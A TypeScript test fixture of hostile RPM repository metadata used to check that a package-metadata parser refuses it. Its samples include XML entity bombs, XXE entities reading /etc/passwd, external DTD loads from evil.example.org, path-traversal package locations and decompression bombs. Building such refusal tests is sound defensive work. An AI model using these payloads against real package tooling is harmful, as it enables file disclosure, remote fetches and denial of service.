/** Package metadata as a provider's server could send it, in place of the list of packages. */
import { gzipSync, zstdCompressSync } from "node:zlib";
import { type HostileFamily, hostile } from "./kind.ts";

const NS =
  'xmlns="http://linux.duke.edu/metadata/common" xmlns:rpm="http://linux.duke.edu/metadata/rpm"';
const head = '<?xml version="1.0" encoding="UTF-8"?>\n';
const HASH = "a".repeat(64);

interface Fields {
  readonly name?: string;
  readonly version?: string;
  readonly checksum?: string;
  readonly href?: string;
  readonly base?: string;
  readonly size?: string;
  readonly time?: string;
  readonly more?: string;
}

/** A package as `createrepo_c` writes it, with some of its fields otherwise. */
const one = ({
  name = "alpha",
  version = '<version epoch="0" ver="1.0" rel="1"/>',
  checksum = `<checksum type="sha256" pkgid="YES">${HASH}</checksum>`,
  href = "a/alpha-1.0-1.x86_64.rpm",
  base = "",
  size = '<size package="1" installed="1" archive="1"/>',
  time = '<time file="1300000000" build="1300000000"/>',
  more = "",
}: Fields): string =>
  `<package type="rpm"><name>${name}</name><arch>x86_64</arch>${version}${checksum}<summary>s</summary><description>d</description><packager></packager><url></url>${time}${size}<location ${base}href="${href}"/><format><rpm:license>x</rpm:license><rpm:vendor></rpm:vendor><rpm:group>x</rpm:group><rpm:buildhost>x</rpm:buildhost><rpm:sourcerpm></rpm:sourcerpm><rpm:header-range start="1" end="2"/>${more}</format></package>`;
const list = (...packages: readonly string[]) =>
  `${head}<metadata ${NS} packages="${packages.length}">${packages.join("")}</metadata>\n`;
const fields = (...all: readonly Fields[]) => all.map((each) => list(one(each)));
let packed: readonly Buffer[] | undefined;

/** Little that unpacks to 200 MB, by each way of packing; made once. */
function bombs(): readonly Buffer[] {
  if (packed) return packed;
  const spaces = Buffer.alloc(200_000_000, 0x20);
  packed = [gzipSync(spaces, { level: 9 }), zstdCompressSync(spaces)];
  return packed;
}

export const METADATA_TEXTS: HostileFamily = {
  what: "a provider's list of packages",
  doors: ["intake"],
  kinds: [
    hostile("entities that grow", "refused", [
      `${head}<!DOCTYPE x [<!ENTITY a "aaaaaaaaaa"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;"><!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;">]>${list(one({ name: "&c;" })).slice(head.length)}`,
      list(one({ name: "&undeclared;" })),
    ]),
    hostile("an entity from elsewhere", "refused", [
      `${head}<!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>${list(one({ name: "&a;" })).slice(head.length)}`,
      `${head}<!DOCTYPE x SYSTEM "https://evil.example.org/x.dtd">${list(one({})).slice(head.length)}`,
      `${head}<!DOCTYPE x [<!ENTITY % p SYSTEM "https://evil.example.org/p"> %p;]>${list(one({})).slice(head.length)}`,
    ]),
    hostile(
      "a checksum that is none",
      "refused",
      fields(
        { checksum: "" },
        {
          checksum: '<checksum type="md5" pkgid="YES">d41d8cd98f00b204e9800998ecf8427e</checksum>',
        },
        { checksum: '<checksum type="sha256" pkgid="YES">xyz</checksum>' },
        { checksum: `<checksum type="sha1" pkgid="YES">${HASH}</checksum>` },
        { checksum: `<checksum type="sha256" pkgid="YES">../${HASH.slice(3)}</checksum>` },
      ),
    ),
    hostile(
      "a file outside the repository",
      "refused",
      fields(
        { href: "../evil.rpm" },
        { href: "a/../../evil.rpm" },
        { href: "/etc/evil.rpm" },
        { href: "//evil.example.org/x.rpm" },
        { href: "https://evil.example.org/x.rpm" },
        { href: "a\\..\\evil.rpm" },
        { href: "%2e%2e/evil.rpm" },
        { href: "a/%2e%2e/%2e%2e/evil.rpm" },
        { href: "" },
        { href: "javascript:alert(1)" },
      ),
    ),
    hostile(
      "a base of its own",
      "refused",
      fields(
        { base: 'xml:base="https://evil.example.org/" ' },
        { base: 'xml:base="file:///" ' },
        { base: 'xml:base="../" ' },
      ),
    ),
    hostile(
      "a name with characters that act",
      "refused",
      fields(
        { name: "" },
        { name: "a b" },
        { name: "../a" },
        { name: "a&#10;b" },
        { name: "a\u202eb" },
        { name: "a&#0;b" },
        { name: "&lt;script&gt;" },
        { name: "-rf" },
      ),
    ),
    hostile(
      "a version that is none",
      "refused",
      fields(
        { version: "" },
        { version: '<version epoch="x" ver="1" rel="1"/>' },
        { version: '<version epoch="-1" ver="1" rel="1"/>' },
        { version: '<version epoch="0" ver="" rel="1"/>' },
        { version: '<version epoch="0" ver="1 2" rel="1"/>' },
        { version: '<version epoch="99999999999999999999" ver="1" rel="1"/>' },
      ),
    ),
    hostile(
      "a number that is none",
      "refused",
      fields(
        { size: '<size package="-1" installed="1" archive="1"/>' },
        { size: '<size package="x" installed="1" archive="1"/>' },
        { size: '<size package="1e400" installed="1" archive="1"/>' },
        { time: '<time file="x" build="y"/>' },
      ),
    ),
    hostile("an ending in the middle", "refused", [
      list(one({})).slice(0, 400),
      list(one({})).slice(0, -20),
      head,
      "",
      "<",
      "<metadata",
    ]),
    hostile("something that is no list", "refused", [
      "<html><body>Not found</body></html>",
      '{"packages": []}',
      "404",
      "\0\0\0\0",
      `${head}<packages/>`,
      "---\nx: y\n",
    ]),
    hostile("a number of packages that is not true", "inert", [
      list(one({})).replace('packages="1"', 'packages="2"'),
      list(one({})).replace('packages="1"', 'packages="-1"'),
      list(one({})).replace(' packages="1"', ""),
    ]),
    hostile("a mistake of XML", "refused", [
      list(one({ name: "a & b" })),
      list(one({})).replace("</name>", "</nme>"),
      list(one({ name: "<b>a" })),
      list(one({ href: '" x="' })),
      list(one({})).replace("UTF-8", "UTF-16"),
      `${list(one({}))}${list(one({}))}`,
    ]),
    hostile("bytes that are not UTF-8", "refused", [
      Buffer.concat([
        Buffer.from(head),
        Buffer.from([0xff, 0xfe]),
        Buffer.from(list(one({})).slice(head.length)),
      ]),
      Buffer.from(list(one({ name: "é" })), "latin1"),
    ]),
    hostile(
      "deep nesting",
      "refused",
      () => [
        list(one({ more: "<x>".repeat(20_000) })),
        list(one({ more: `${"<x>".repeat(5000)}${"</x>".repeat(5000)}` })),
        `${head}${"<metadata>".repeat(5000)}`,
      ],
      { mostSeconds: 2 },
    ),
    hostile(
      "thousands of attributes",
      "either",
      () => [
        list(
          one({
            more: `<x ${Array.from({ length: 20_000 }, (_, index) => `a${index}="1"`).join(" ")}/>`,
          }),
        ),
        list(one({ more: `<x a="1" a="2"/>` })),
      ],
      { mostSeconds: 2 },
    ),
    hostile(
      "a text longer than any",
      "either",
      () => [
        list(one({ name: "a".repeat(2_000_000) })),
        list(one({ more: `<rpm:license>${"x".repeat(2_000_000)}</rpm:license>` })),
      ],
      { mostSeconds: 3 },
    ),
    hostile("what unpacks to far more", "refused", bombs, {
      mostSeconds: 6,
      mostMegabytes: 400,
    }),
    hostile("a packed file that is damaged", "refused", () => {
      const packed = gzipSync(list(one({})));
      return [
        packed.subarray(0, packed.length - 6),
        Buffer.concat([packed.subarray(0, 20), Buffer.alloc(10, 0xff), packed.subarray(30)]),
        Buffer.from([0x1f, 0x8b]),
        Buffer.from([0x28, 0xb5, 0x2f, 0xfd, 0]),
        Buffer.from([0xfd, 0x37, 0x7a, 0x58, 0x5a, 0]),
        Buffer.from("BZh9"),
        Buffer.concat([packed, Buffer.from("x")]),
      ];
    }),
  ],
};
